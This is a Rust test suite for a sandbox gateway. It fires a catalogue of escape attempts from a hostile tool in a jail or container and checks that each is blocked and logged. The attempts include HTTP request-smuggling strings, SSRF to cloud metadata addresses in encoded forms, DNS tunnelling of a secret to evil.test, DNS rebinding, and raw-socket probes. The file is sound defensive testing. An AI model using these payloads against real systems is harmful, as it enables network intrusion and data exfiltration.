//! A sandboxed tool reaches what its call was granted and nothing else; whatever else it tries is in the record of its call.
//!
//! Each row is an attack of `hostile-tool`. It is held against two witnesses: the servers of the tests' internet, which must not
//! have seen the row's mark, and the log, which must say what was tried.

use std::net::TcpListener;
use std::time::Duration;

use serde_json::{Value, json};
use tempfile::TempDir;
use tests::attacker;
use tests::engine::{Engine, Guard, Runtime, package, runsc_current};
use tests::internet::{Internet, internet};
use tests::ledger::Ledger;
use tests::world::{Setup, World};

/// What keeps the tool.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Sandbox {
    Jail,
    Container(Runtime),
}

/// A gateway with the hostile tool in a sandbox, in the tests' internet.
struct Yard {
    sandbox: Sandbox,
    world: World,
    /// Of containers. After the gateway, which it outlives.
    _guard: Option<Guard<'static>>,
    net: &'static Internet,
    /// Of the host: nobody may knock.
    host: TcpListener,
    _folder: TempDir,
}

impl Yard {
    fn open(sandbox: Sandbox) -> Self {
        let net = internet();
        let host = TcpListener::bind("0.0.0.0:0").unwrap();
        host.set_nonblocking(true).unwrap();
        let folder = TempDir::with_prefix("portcullis-egress-").unwrap();
        let grant = grant(host.local_addr().unwrap().port());
        let (setup, guard) = match sandbox {
            Sandbox::Jail => (jailed(&folder, &grant), None),
            Sandbox::Container(runtime) => contained(&folder, runtime, &grant),
        };
        let world = setup.config(&net.config()).start();
        let servers = if sandbox == Sandbox::Jail { &["hostile."][..] } else { &["hostile.", "neighbour."] };
        world.eventually("the tools", || {
            let names = world.modern().names();
            servers.iter().all(|server| names.iter().any(|name| name.starts_with(server))).then_some(())
        });
        Self { sandbox, world, _guard: guard, net, host, _folder: folder }
    }

    fn attack(&self, tool: &str, arguments: &Value) -> String {
        let answer = self.world.modern().call(&format!("hostile.{tool}"), arguments);
        if answer.ran() { answer.said() } else { answer.text }
    }

    fn ledger(&self) -> Ledger {
        Ledger::open(self.world.state()).unwrap()
    }
}

fn jailed(folder: &TempDir, grant: &str) -> Setup {
    let tool = folder.path().join("hostile-tool");
    std::fs::copy(attacker::tool(), &tool).unwrap();
    let keys = format!("vouched = true\ncall_timeout = \"60s\"\negress = {grant}\n");
    Setup::new().allow_all().command_with("hostile", &[tool.to_str().unwrap()], &keys)
}

fn contained(folder: &TempDir, runtime: Runtime, grant: &str) -> (Setup, Option<Guard<'static>>) {
    let root = std::fs::canonicalize(folder.path()).unwrap();
    let recipe = format!("files = [{{ from = {:?}, to = \"/hostile-tool\" }}]", attacker::tool());
    let manifest = format!("egress = {grant}\n[container]\nimage = \"image\"\ncommand = [\"/hostile-tool\"]\n");
    let package = package(&root, "hostile", &recipe, &manifest);
    let guard = Guard::start(Engine::shared(), runtime, &root, "");
    let keys = "vouched = true\ncall_timeout = \"60s\"\nstart_timeout = \"60s\"\n";
    let server =
        format!("[server.hostile]\npackage = {package:?}\n{keys}[server.neighbour]\npackage = {package:?}\n{keys}");
    (Setup::new().allow_all().config(&server).config(&guard.setting(runtime)), Some(guard))
}

/// One call's grant: some of it leads where nobody may go, whatever the grant says.
pub(crate) fn grant(port: u16) -> String {
    let lured = ["private.test", "alias.test", "metadata.test", "rebind.test"];
    let lured = lured.map(|host| format!("{{ host = \"{host}\", protocol = \"http\" }}")).join(", ");
    format!(
        "[{{ host = \"web.test\", protocol = \"http\" }}, {{ host = \"*.web.test\" }}, \
         {{ host = \"web.test\", protocol = \"tcp\", ports = [7] }}, {lured}, \
         {{ host = \"own.test\", protocol = \"http\", ports = [{port}] }}, \
         {{ host = \"loopback.test\", protocol = \"http\", ports = [{port}] }}]"
    )
}

/// Whether the record has to know of an attack.
enum Record {
    /// With these words in one refused attempt.
    Has(Vec<String>),
    /// What is left of it was harmless, was made, and is told.
    Made(&'static str),
    /// There was nothing to see: the kernel refused before.
    MayLack,
}

struct Row {
    what: &'static str,
    tool: &'static str,
    arguments: Value,
    record: Record,
}

fn row(what: &'static str, tool: &'static str, arguments: Value, words: &[&str]) -> Row {
    let record = Record::Has(words.iter().map(|word| (*word).to_owned()).collect());
    Row { what, tool, arguments, record }
}

fn silent(what: &'static str, tool: &'static str, arguments: Value) -> Row {
    Row { what, tool, arguments, record: Record::MayLack }
}

/// What every row sends or asks for, where it can. A server that sees it was reached.
pub(crate) const MARK: &str = "mark-of-the-attack";

fn get(host: &str, more: &str) -> String {
    format!("GET /{MARK} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n")
}

fn addresses(yard: &Yard) -> Vec<Row> {
    // A container's own loopback is nobody else's, and without IPv6 its kernel refuses before there is anything to see.
    let inner = |what, tool, arguments, words: &[&str]| match yard.sandbox {
        Sandbox::Jail => row(what, tool, arguments, words),
        Sandbox::Container(_) => silent(what, tool, arguments),
    };
    let (evil, web, dns) =
        (yard.net.evil().to_string(), yard.net.web().to_string(), yard.net.resolver().ip().to_string());
    let host = yard.host.local_addr().unwrap().port();
    let to = |to: &str, port: u16| json!({"to": to, "port": port, "send": get("web.test", "")});
    let gateway: u16 = yard.world.endpoint().split(['/', ':']).find_map(|part| part.parse().ok()).unwrap();
    vec![
        row("a raw address", "tcp", to(&evil, 80), &[&evil]),
        row("the raw address of an allowed host", "tcp", to(&web, 80), &[&web]),
        row("a tool that knows of no proxy", "unproxied", to(&web, 80), &[&web]),
        inner("an address of IPv6", "tcp", to("2606:4700:4700::1111", 80), &["2606:4700:4700::1111"]),
        row("a synthetic address of another sandbox", "tcp", to("198.18.77.7", 80), &["198.18.77.7"]),
        row("UDP", "udp", to(&evil, 7), &["udp", &evil]),
        row("UDP to an allowed host", "udp", to(&web, 7), &["udp", &web]),
        row("QUIC", "udp", to(&web, 443), &["udp", &web]),
        row(
            "a port of the host",
            "tcp",
            to(&yard.net.host().to_string(), host),
            &["declared", &yard.net.host().to_string()],
        ),
        inner("a port of the host's loopback", "tcp", to("127.0.0.1", host), &["127.0.0.1"]),
        inner("the gateway's own API", "tcp", to("127.0.0.1", gateway), &["127.0.0.1"]),
        row("a metadata service", "tcp", to("169.254.169.254", 80), &["169.254.169.254"]),
        inner("a metadata service in IPv6", "tcp", to("fd00:ec2::254", 80), &["fd00:ec2::254"]),
        row("DNS of another server", "ask", json!({"name": "web.test", "server": evil}), &["udp", &evil]),
        row(
            "DNS of another server over TCP",
            "ask",
            json!({"name": "web.test", "server": evil, "tcp": true}),
            &["tcp", &evil],
        ),
        row("DNS of the gateway's own resolver", "ask", json!({"name": "web.test", "server": dns}), &["udp", &dns]),
        row("DNS over HTTPS", "tls", json!({"to": dns, "port": 443, "sni": "dns.evil.test"}), &[&dns]),
        silent("ICMP", "icmp", json!({"to": evil})),
        silent("a raw socket", "raw", json!({"to": evil})),
        silent("a raw TCP socket", "raw_tcp", json!({"to": evil})),
        silent("a packet socket", "packet", json!({})),
        silent("a proxy that is not there", "connect", json!({"target": "evil.test:80"})),
    ]
}

/// Another container of the same guard, which listens. A jail has no neighbour that an address could name.
fn neighbours(yard: &Yard) -> Vec<Row> {
    if yard.sandbox == Sandbox::Jail {
        return Vec::new();
    }
    let told = yard.world.modern().call("neighbour.serve", &json!({})).said();
    let address = told.strip_prefix("DONE ").unwrap_or_else(|| panic!("no neighbour: {told}"));
    let to = json!({"to": address, "port": 7777, "send": get("web.test", "")});
    vec![row("another sandbox", "tcp", to, &[address])]
}

fn names(yard: &Yard) -> Vec<Row> {
    let host = yard.host.local_addr().unwrap().port();
    let web = |name: &str| json!({"name": name, "send": get(name, "")});
    let at = |name: &str| json!({"name": name, "port": host, "send": get(&format!("{name}:{host}"), "")});
    vec![
        row("a name that was not declared", "request", web("evil.test"), &["dns", "evil.test"]),
        row("where a redirect leads", "request", web("evil.test"), &["dns", "evil.test"]),
        row("another type of record", "ask", json!({"name": "web.test", "kind": 16}), &["dns", "web.test (TXT)"]),
        row("every record of a name", "ask", json!({"name": "web.test", "kind": 255}), &["dns", "web.test"]),
        row(
            "a tunnel of forbidden names",
            "tunnel",
            json!({"name": "evil.test", "secret": MARK}),
            &["dns", "evil.test"],
        ),
        row(
            "a tunnel of allowed names",
            "tunnel",
            json!({"name": "web.test", "secret": MARK}),
            &["dns", "web.test (TXT)"],
        ),
        row(
            "another port of an allowed host",
            "request",
            json!({"name": "web.test", "port": 8080, "send": get("web.test:8080", "")}),
            &["port"],
        ),
        row("a name with a private address", "request", web("private.test"), &["10.77.0.1", "private"]),
        row("an alias of a private address", "request", web("alias.test"), &["10.77.0.1", "private"]),
        row("a name of a metadata service", "request", web("metadata.test"), &["169.254.169.254", "metadata"]),
        row("a name of the host", "request", at("own.test"), &["own.test", "this machine"]),
        row("a name of the host's loopback", "request", at("loopback.test"), &["loopback.test", "private"]),
        row("a metadata service as one number", "request", web("2852039166"), &["169.254.169.254"]),
        row("a metadata service in hexadecimal", "request", web("0xA9FEA9FE"), &["169.254.169.254"]),
        row("a metadata service in octal", "request", web("0251.0376.0251.0376"), &["169.254.169.254"]),
        row("a metadata service cut short", "request", web("169.254.43518"), &["169.254.169.254"]),
        row("a metadata service inside IPv6", "request", web("::ffff:169.254.169.254"), &["169.254.169.254"]),
    ]
}

fn protocols() -> Vec<Row> {
    let plain = |send: String| json!({"name": "web.test", "send": send});
    let hidden = get("evil.test", "");
    let smuggled = format!(
        "POST / HTTP/1.1\r\nHost: web.test\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        hidden.len() + 5
    );
    let twice = format!(
        "POST / HTTP/1.1\r\nHost: web.test\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{hidden}",
        hidden.len()
    );
    let folded = format!("GET /{MARK} HTTP/1.1\r\nHost: web.test\r\nX: a\r\n b: c\r\n\r\n");
    let tls = |sni: &str, port: u16| json!({"name": "a.web.test", "port": port, "sni": sni});
    vec![
        row("another host inside HTTP", "request", plain(get("evil.test", "")), &["evil.test", "dialled"]),
        row("no host inside HTTP", "request", plain(format!("GET /{MARK} HTTP/1.1\r\n\r\n")), &["names no host"]),
        row("two hosts inside HTTP", "request", plain(get("web.test", "Host: evil.test\r\n")), &["more than one"]),
        row(
            "a whole URL of another host",
            "request",
            plain(format!("GET http://evil.test/{MARK} HTTP/1.1\r\nHost: web.test\r\n\r\n")),
            &["evil.test", "dialled"],
        ),
        row(
            "CONNECT at a web server",
            "request",
            plain("CONNECT evil.test:80 HTTP/1.1\r\nHost: web.test\r\n\r\n".to_owned()),
            &["target is no path"],
        ),
        // Read as one request with an empty body, which is all that is sent on; the rest goes down with the connection.
        Row { record: Record::Made("POST /"), ..silent("two lengths", "request", plain(smuggled)) },
        row("one length twice", "request", plain(twice), &["one way"]),
        row("a folded header", "request", plain(folded), &["one way"]),
        row(
            "a WebSocket",
            "request",
            plain(get("web.test", "Connection: upgrade\r\nUpgrade: websocket\r\n")),
            &["change the protocol"],
        ),
        row("HTTP/2 without TLS", "request", plain(format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{MARK}")), &["one way"]),
        row(
            "HTTP at a port of plain TCP",
            "request",
            json!({"name": "web.test", "port": 7, "send": get("web.test", "")}),
            &["HTTP, declared as plain TCP"],
        ),
        row(
            "TLS at a port of plain TCP",
            "tls",
            json!({"name": "web.test", "port": 7, "sni": "evil.test"}),
            &["TLS, declared as plain TCP"],
        ),
        row("another name inside TLS", "tls", tls("evil.test", 443), &["evil.test", "dialled"]),
        row("DNS over HTTPS behind an allowed name", "tls", tls("dns.evil.test", 443), &["dns.evil.test", "dialled"]),
        row("no name inside TLS", "tls", tls("", 443), &["tls"]),
        row(
            "TLS at a port of HTTP",
            "tls",
            json!({"name": "web.test", "port": 80, "sni": "web.test"}),
            &["speak what was declared"],
        ),
        row(
            "HTTP at a port of TLS",
            "request",
            json!({"name": "a.web.test", "port": 443, "send": get("a.web.test", "")}),
            &["speak what was declared"],
        ),
    ]
}

fn nothing_passes(sandbox: Sandbox) {
    let yard = Yard::open(sandbox);
    let works =
        yard.attack("request", &json!({"name": "web.test", "send": "GET /granted HTTP/1.1\r\nHost: web.test\r\n\r\n"}));
    assert!(works.contains("200 OK"), "what was granted works: {works}\n{}", yard.world.said());
    let works = yard.attack("tls", &json!({"name": "a.web.test", "port": 443, "sni": "a.web.test"}));
    assert!(works.starts_with("DONE"), "what was granted works over TLS: {works}");
    let works = yard.attack("request", &json!({"name": "web.test", "port": 7, "send": "granted\r\n"}));
    assert_eq!(works, "DONE granted\r\n", "what was granted works over TCP");
    let mut failures = Vec::new();
    let rows = addresses(&yard).into_iter().chain(names(&yard)).chain(protocols()).chain(neighbours(&yard));
    for row in rows {
        let told = yard.attack(row.tool, &row.arguments);
        if told.contains("the neighbour answers") {
            failures.push(format!("{}: {told}", row.what));
        }
        for seen in yard.net.saw(MARK) {
            failures.push(format!("{}: a server saw it: {seen}; the tool says {told}", row.what));
        }
        if yard.host.accept().is_ok() {
            failures.push(format!("{}: the host was reached; the tool says {told}", row.what));
        }
        if let Record::Made(request) = row.record
            && !yard.ledger().observed().iter().any(|attempt| attempt["request"] == request)
        {
            failures.push(format!("{}: not in the record, which has {:?}", row.what, yard.ledger().observed()));
        }
        if let Record::Has(words) = &row.record {
            // A packet that the firewall dropped is told a moment later, with the call if that still runs.
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            if !yard.ledger().refused(&words) {
                failures.push(format!(
                    "{}: not in the record, which has {:?}; the tool says {told}",
                    row.what,
                    yard.ledger().observed()
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{} rows failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn nothing_passes_out_of_a_jail_that_was_not_granted() {
    nothing_passes(Sandbox::Jail);
}

#[test]
fn nothing_passes_out_of_a_container_on_gvisor_that_was_not_granted() {
    nothing_passes(Sandbox::Container(Runtime::Runsc));
}

#[test]
fn nothing_passes_out_of_a_container_on_this_years_gvisor_that_was_not_granted() {
    if runsc_current().is_some() {
        nothing_passes(Sandbox::Container(Runtime::RunscCurrent));
    }
}

#[test]
fn nothing_passes_out_of_a_container_on_runc_that_was_not_granted() {
    nothing_passes(Sandbox::Container(Runtime::Runc));
}

#[test]
fn a_name_that_changes_is_never_dialled_inside() {
    let yard = Yard::open(Sandbox::Jail);
    let request = json!({"name": "rebind.test", "send": "GET /rebound HTTP/1.1\r\nHost: rebind.test\r\n\r\n"});
    let mut refused = 0;
    for _ in 0..4 {
        drop(yard.attack("request", &request));
        refused += usize::from(yard.ledger().refused(&["rebind.test", "127.0.0.1"]));
    }
    assert!((1..4).contains(&refused), "a public answer is dialled and a private one is not: {refused}");
}

#[test]
fn nothing_is_open_between_calls() {
    let yard = Yard::open(Sandbox::Jail);
    let at = |send: &str| json!({"name": "web.test", "port": 7, "send": send, "after": 700});
    assert_eq!(yard.attack("keep", &at("kept-open\r\n")), "DONE kept");
    let told = yard.attack("use_kept", &json!({"send": "after-the-grant\r\n"}));
    assert!(told.starts_with("refused"), "a connection does not outlive its call: {told}");
    assert!(!told.contains("not connected"), "it was the same instance: {told}");
    assert_eq!(yard.attack("keep", &at("kept-open\r\n")), "DONE kept");
    assert_eq!(yard.attack("later", &at("between-calls\r\n")), "it goes on");
    std::thread::sleep(Duration::from_secs(5));
    let told = yard.attack("told_later", &json!({}));
    for what in ["name: refused", "connect: refused", "kept: refused"] {
        assert!(told.contains(what), "{told}");
    }
    for mark in ["after-the-grant", "between-calls"] {
        assert_eq!(yard.net.saw(mark), Vec::<String>::new());
    }
    let at_rest: Vec<Value> =
        yard.ledger().observed().into_iter().filter(|attempt| attempt["at_rest"] == true).collect();
    for protocol in ["dns", "tcp"] {
        assert!(at_rest.iter().any(|attempt| attempt["protocol"] == protocol), "{protocol}: {at_rest:?}");
    }
}

#[test]
fn every_attempt_is_recorded_with_its_bytes() {
    let yard = Yard::open(Sandbox::Jail);
    let send = "GET /bytes/5000 HTTP/1.1\r\nHost: web.test\r\n\r\n";
    assert!(yard.attack("request", &json!({"name": "web.test", "send": send})).contains("200 OK"));
    let seen = yard.ledger().observed();
    let flow = seen.iter().find(|attempt| attempt["address"].is_string()).unwrap_or_else(|| panic!("{seen:?}"));
    assert_eq!((flow["host"].as_str(), flow["port"].as_u64()), (Some("web.test"), Some(80)), "{flow}");
    assert_eq!(flow["address"], yard.net.web().to_string());
    assert!(flow["sent"].as_u64() >= Some(send.len() as u64) && flow["received"].as_u64() > Some(1000), "{flow}");
    let request = seen.iter().find(|attempt| attempt["request"].is_string()).unwrap_or_else(|| panic!("{seen:?}"));
    assert_eq!(request["request"], "GET /bytes/5000");
    assert!(seen.iter().all(|attempt| attempt["denied"].is_null()), "{seen:?}");
}
